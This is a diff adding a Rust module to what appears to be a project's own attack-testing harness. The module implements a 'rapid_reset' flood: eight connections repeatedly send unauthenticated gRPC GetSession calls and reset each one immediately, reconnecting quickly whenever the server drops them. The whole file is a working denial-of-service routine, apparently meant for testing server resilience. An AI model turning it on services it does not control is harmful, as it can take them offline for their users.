@@ -1,0 +1,49 @@
+//! Calls without a credential that are reset as soon as they are sent, as fast as they can be.
+
+use std::time::Duration;
+
+use palimpsest_proto::context::v1::GetSessionRequest;
+use tokio::task::JoinSet;
+
+use crate::attack::{Assault, Attack};
+use crate::wire::{Call, USUAL_WINDOW};
+
+pub(super) const ATTACK: Attack = Attack {
+    name: "rapid_reset",
+    needs: &[],
+    run: |assault| Box::pin(run(assault)),
+};
+
+const CONNECTIONS: usize = 8;
+/// Calls without a pause: the pause leaves the attacker's share of the machine to others, and still makes thousands of
+/// calls a second.
+const BURST: usize = 50;
+const PAUSE: Duration = Duration::from_millis(50);
+/// Pause before a connection that the server ended is opened again. Each end may be a line in the server's log, so that
+/// this pause is shorter than that of other attacks.
+const AGAIN: Duration = Duration::from_millis(10);
+
+async fn run(assault: Assault) {
+    let mut all = JoinSet::new();
+    for _ in 0..CONNECTIONS {
+        let assault = assault.clone();
+        all.spawn(async move {
+            let call = Call::new("SessionService/GetSession", &GetSessionRequest::default());
+            loop {
+                let wire = assault.dial(USUAL_WINDOW).await;
+                'connection: loop {
+                    for _ in 0..assault.scale.of(BURST) {
+                        assault.tally.tried();
+                        if wire.reset(&call).await.is_err() {
+                            break 'connection;
+                        }
+                    }
+                    tokio::time::sleep(PAUSE).await;
+                }
+                assault.tally.note("connection ended by the server");
+                tokio::time::sleep(AGAIN).await;
+            }
+        });
+    }
+    all.join_all().await;
+}
